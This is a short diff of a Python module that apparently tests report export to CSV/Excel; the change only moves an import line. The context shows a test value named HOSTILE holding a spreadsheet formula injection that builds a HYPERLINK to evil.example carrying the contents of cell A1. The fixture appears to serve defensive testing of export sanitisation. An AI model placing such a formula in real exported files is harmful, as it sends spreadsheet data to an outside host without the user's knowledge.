@@ -7,12 +7,12 @@ import csv
 from openpyxl import load_workbook
 
 from base.settings import Settings
-from support.chat import setup_org
 from reports.export import export
 from reports.model import build_report
 from storage.answers import Answers
 from storage.db import Database
 from storage.models import Organisation, Status, StatusReport
+from support.chat import setup_org
 
 HOSTILE = {
     "title": '=HYPERLINK("https://evil.example/?leak="&A1,"คลิก")',
